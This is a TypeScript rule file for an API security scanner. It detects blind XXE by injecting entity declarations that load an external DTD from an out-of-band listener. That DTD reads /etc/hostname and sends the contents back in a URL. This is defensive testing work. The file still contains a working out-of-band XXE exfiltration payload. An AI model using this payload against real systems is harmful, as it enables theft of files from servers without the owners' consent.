import { defineRule, withEntities, withXml, xmlBody } from '../../rule/index.ts'

/**
 * The document type is loaded from the listener; the one served there reads a file and puts it into the address of a second call. The second call
 * with something in it is the proof, whatever the answer says.
 */
export default defineRule({
  id: 'xxe-file-exfiltration',
  title: 'XML input makes the server send files out',
  severity: 'critical',
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:L',
  cwe: [611],
  owasp: 'API8:2023',
  why: 'The parser loads a document type from outside and carries out what stands in it. Files leave the server although no answer shows them.',
  fix: 'Switch off document type declarations, external entities and loading of external document types in the parser.',
  controls: ['secure-coding', 'network-security'],
  needs: { baseline: 'answered', oob: true },
  applies: ({ endpoint }) => (endpoint.bodies.length > 0 && endpoint.graphql === undefined ? true : 'takes no body'),
  run: async (context) => {
    const { oob } = context
    const draft = context.baseline()?.draft ?? context.unreached()?.draft
    const document = draft === undefined ? undefined : xmlBody(draft.body)
    if (oob === undefined || draft === undefined || document === undefined) return
    const loaded = oob.newToken()
    const carried = oob.newToken()
    // /etc/hostname has one line, so that it fits into an address.
    oob.serve(loaded, {
      status: 200,
      headers: { 'content-type': 'application/xml-dtd' },
      body: `<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % make "<!ENTITY &#37; out SYSTEM '${oob.url(carried)}?file=%file;'>">%make;%out;`,
    })
    const declarations = `<!ENTITY % load SYSTEM "${oob.url(loaded)}"> %load;`
    const exchange = await context.send(withXml(draft, withEntities(document, declarations, 'hf')))
    context.expectCall(carried, 'http', (hits) => ({
      message: `The server sent the content of /etc/hostname to the listener: ${hits[0]?.detail ?? ''}.`,
      confidence: 'certain',
      evidence: [{ label: 'body that loads a document type from the listener', exchange }],
    }))
  },
})
